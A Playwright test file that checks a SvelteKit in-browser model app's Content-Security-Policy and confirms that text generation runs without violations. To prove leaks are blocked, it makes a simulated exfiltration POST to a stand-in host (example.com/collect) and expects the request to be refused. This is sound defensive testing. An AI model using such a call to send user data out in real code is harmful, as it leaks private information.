// The Content-Security-Policy (svelte.config.js kit.csp): the page loads, the engine's worker and
// onnxruntime-web's wasm run and the model writes with no violation reported, and the page itself
// cannot connect to a host outside the policy (the check a leak would meet).
import { expect, test } from './app';
import { generateText, openApp, waitForModel } from './app';

test('the policy is in the page, a whole generation runs without a violation, and other hosts are refused', async ({ page }) => {
	const violations: string[] = [];
	page.on('console', (m) => {
		if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
	});
	await page.addInitScript(() => {
		document.addEventListener('securitypolicyviolation', (e) =>
			console.log(`Content Security Policy violation: ${e.violatedDirective} ${e.blockedURI}`)
		);
	});
	await openApp(page, { max_tokens: 8, seed: 3, prompt: 'The cat' });
	// The served page's <meta> (read from the file: the live DOM may not keep it after hydration; the policy stays in force).
	const html = await (await page.request.get('/')).text();
	const policy = /<meta http-equiv="content-security-policy" content="([^"]*)"/.exec(html)?.[1] ?? '';
	expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval'");
	expect(policy).toMatch(/connect-src 'self' https:\/\/huggingface\.co/);
	expect(policy).not.toMatch(/script-src[^;]*'unsafe-(inline|eval)'/);
	await waitForModel(page);
	expect((await generateText(page)).length).toBeGreaterThan(0);
	expect(violations).toEqual([]);
	const blocked = await page.evaluate(() =>
		fetch('https://example.com/collect', { method: 'POST', body: 'x' }).then(
			() => 'sent',
			(e) => `refused: ${e}`
		)
	);
	expect(blocked).toMatch(/^refused/);
	await expect.poll(() => violations.some((v) => v.includes('connect-src'))).toBe(true);
});
